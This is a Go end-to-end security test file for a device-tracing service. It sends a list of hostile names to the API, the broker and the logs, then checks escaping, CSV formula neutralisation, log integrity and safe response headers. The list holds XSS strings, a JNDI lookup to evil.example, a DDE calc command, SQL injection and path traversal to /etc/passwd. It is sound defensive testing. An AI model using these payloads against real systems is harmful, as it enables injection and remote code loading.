package e2e

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"devicetrace/infra/local/demo/ends"
)

// hostileNames are names that an attacker could choose. A program that displays such a name may
// interpret it, for example as markup or as a formula.
var hostileNames = []string{
	"<script>alert(1)</script>", "</textarea><img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>", "javascript:alert(1)", "{{constructor}}", "${jndi:ldap://evil.example/a}",
	"line\nbreak", "line\r\n{\"level\":\"ERROR\",\"msg\":\"forged\"}", "\x1b[2J\x1b]0;title\x07", "\x1b[31mred", "back\b\b\b\bspace", "\u2028{\"forged\":1}", "\u202eright-to-left", "nul\x00byte",
	"=1+1", "+1", "-1", "@SUM(1)", "\t=1", "x;=1", "x\t\"=1\"", "=cmd|' /C calc'!A0", "\uff1d1+1", "'; DROP TABLE events; --", "../../etc/passwd", "%s%n%x", strings.Repeat("A", 60_000),
}

// TestAttackNames sends hostile names to the recorder. The API must return each accepted name
// unchanged in JSON, unless the name is too long for a URL. The names must do no harm:
//   - A browser must not take the JSON for a page.
//   - A spreadsheet must not take a CSV cell for a formula.
//   - Each log record must stay on one line, even if it contains a name.
func TestAttackNames(t *testing.T) {
	t.Parallel()
	count := countAttacks(t)
	s := newStackWith(t, "ADMIN_TOKEN="+adminToken)
	from := time.Now().Add(-time.Minute)
	for i, name := range hostileNames {
		event := inputEvent{ClientID: name, Action: "close", Time: from.UnixMilli(), NativeReason: name, Username: name, Node: name, SourceEventID: fmt.Sprint(i)}
		body, err := json.Marshal(event)
		require.NoError(t, err)
		r := s.post(t, "/webhooks/events/names", body, http.Header{"X-Log-Position": {"p"}, "User-Agent": {"</script>\t${x}"}})
		if r.status == 400 { // this name is not a valid MQTT string
			require.Contains(t, string(r.body), `"rejected":[{`)
			count.note(r)
			continue
		}
		require.Equal(t, 200, r.status, string(r.body))
		requireNamed(t, s, name, from)
	}
	for _, path := range []string{"/webhooks/%3Cscript%3E/x", "/webhooks/events/%3Cscript%3E", "/webhooks/events/a%0a%1b", "/api/v1/trace?%3Cscript%3E=1", "/%3Cscript%3E", "/console/%3Cscript%3E",
		"/?Action=%3Cscript%3E", "/?Action=x&%3Cscript%3E=1&%3Cscript%3E=2", "/webhooks/quarantine/%3Cscript%3E", "/api/v1/trace?instance=%3Cscript%3E&client=c&order=%3Cscript%3E"} {
		for _, method := range []string{"GET", "POST"} {
			r := s.send(t, method, path, "<script>", "Authorization", "Bearer "+queryToken)
			require.NotContains(t, r.header.Get("Content-Type"), "html", path)
			require.Equal(t, "nosniff", r.header.Get("X-Content-Type-Options"), path)
		}
	}
	s.connectNamed(t)
	s.interrupt(t)
	s.requireWholeLines(t)
}

// requireNamed queries the device with the given name, as JSON and as CSV, and checks both
// responses.
func requireNamed(t *testing.T, s *stack, name string, from time.Time) {
	t.Helper()
	if len(name) > 1000 { // the platform limits URLs to 4 KB
		return
	}
	q := question("names", name, from.Add(-time.Minute), time.Now())
	page := s.ask(t, q)
	require.Equal(t, "application/json", page.header.Get("Content-Type"))
	require.Equal(t, "nosniff", page.header.Get("X-Content-Type-Options"))
	var trace tracePage
	require.NoError(t, json.Unmarshal(page.body, &trace))
	require.Len(t, trace.Events, 1)
	require.Equal(t, name, trace.rows(t)[0].ClientID)

	requireNoFormulas(t, s.ask(t, with(q, "format", "csv")))
	list := url.Values{"instance": {"names"}, "q": {name}, "limit": {"1"}}
	var found struct {
		Devices []struct{ Username string }
	}
	s.read(t, "devices", list, &found)
	require.Len(t, found.Devices, 1)
	require.Contains(t, found.Devices[0].Username, name)
	for _, target := range []string{"devices?" + with(list, "format", "csv").Encode(), "fleet?instance=names&format=csv"} {
		requireNoFormulas(t, s.send(t, "GET", "/api/v1/"+target, "", "Authorization", "Bearer "+queryToken))
	}
}

// requireNoFormulas checks that a table has rows, and that no cell could start a formula.
func requireNoFormulas(t *testing.T, table response) {
	t.Helper()
	require.Equal(t, 200, table.status, string(table.body))
	require.Equal(t, "nosniff", table.header.Get("X-Content-Type-Options"))
	records, err := csv.NewReader(bytes.NewReader(table.body)).ReadAll()
	require.NoError(t, err)
	require.Greater(t, len(records), 1)
	for _, cell := range slices.Concat(records[1:]...) {
		require.NotRegexp(t, "(^|[,;|\t\r\n\x00])[\\s\"]*[=+\\-@\uff1d]", cell)
	}
}

// connectNamed connects to the local broker under each hostile name, once with a valid login and
// once with an invalid one.
func (s *stack) connectNamed(t *testing.T) {
	t.Helper()
	for _, name := range hostileNames {
		for _, target := range []ends.Target{s.target(), {Address: s.target().Address, User: name, Password: name}} {
			if connection, err := ends.Dial(t.Context(), target, name, time.Minute); err == nil {
				connection.Close()
			}
		}
	}
}

// fixedLine matches the lines that the platform's SDK and the function host log for each call.
var fixedLine = regexp.MustCompile(`^FC (Invoke|Initialize|PreStop) (Start|End) RequestId: [0-9a-z-]+$|` +
	`^RequestId: [0-9a-z-]+, Duration: [0-9.]+ ms, Memory Size: [0-9]+ MB, Max Memory Used: [0-9.]+ MB$`)

// requireWholeLines checks that every line of the functions' log is one whole record, and that
// neither the log nor the stack's output can move a terminal's cursor.
func (s *stack) requireWholeLines(t *testing.T) {
	t.Helper()
	logged, err := os.ReadFile(filepath.Join(s.data, "functions.log"))
	require.NoError(t, err)
	for line := range strings.Lines(string(logged)) {
		_, message, found := strings.Cut(strings.TrimSuffix(line, "\n"), " | ")
		require.True(t, found, line)
		if fixedLine.MatchString(message) {
			continue
		}
		var record struct{ Time, Level, Msg, Function string }
		require.NoError(t, json.Unmarshal([]byte(message), &record), message)
		require.NotEqual(t, "forged", record.Msg)
	}
	for _, text := range []string{string(logged), s.output.text.String()} {
		require.NotRegexp(t, "[\x00-\x08\x0b-\x1f\x7f\u2028\u202e]", text)
		require.NotContains(t, text, "\n{\"level\"")
	}
}

// internals matches details of the implementation, which no response may reveal.
var internals = regexp.MustCompile(`goroutine|panic|\.go:|runtime error|secret|STS\.|<Error>|oss-|aliyuncs`)

// TestAttackResponses checks refusals as well as responses with private data:
//   - No shared cache may store the response.
//   - No browser may guess the response's content type.
//   - No page from another origin may read the response.
//   - The response must not reveal details of the implementation.
func TestAttackResponses(t *testing.T) {
	t.Parallel()
	s := newStackWith(t, "ADMIN_TOKEN="+adminToken)
	s.record(t, "attacked", manyEvents(secretClient, time.Now(), 1))
	for _, d := range entryPoints {
		for _, token := range []string{d.token, "wrong"} {
			r := s.send(t, d.method, d.path, d.body, "Authorization", "Bearer "+token, "Origin", "https://evil.example")
			requirePrivate(t, r, d.path)
		}
		requirePrivate(t, s.send(t, "PUT", d.path, d.body, "Authorization", "Bearer "+d.token), d.path)
		requirePrivate(t, s.send(t, "OPTIONS", d.path, "", "Origin", "https://evil.example", "Access-Control-Request-Method", d.method), d.path)
	}
	for _, path := range []string{"/nowhere", "/api/v1/nowhere", "/webhooks/nowhere", "/?Action=x", "/console/nowhere"} {
		requirePrivate(t, s.send(t, "GET", path, ""), path)
	}
}

func requirePrivate(t *testing.T, r response, path string) {
	t.Helper()
	require.Equal(t, "nosniff", r.header.Get("X-Content-Type-Options"), path)
	require.Contains(t, []string{"no-store", "private, no-cache"}, r.header.Get("Cache-Control"), path)
	require.NotContains(t, r.header.Get("Content-Type"), "html", path)
	require.NotRegexp(t, internals, string(r.body), path)
	for _, name := range []string{"Access-Control-Allow-Origin", "Access-Control-Allow-Credentials", "Location", "Set-Cookie", "Server", "X-Powered-By"} {
		require.Empty(t, r.header.Values(name), "%s: %s", path, name)
	}
}
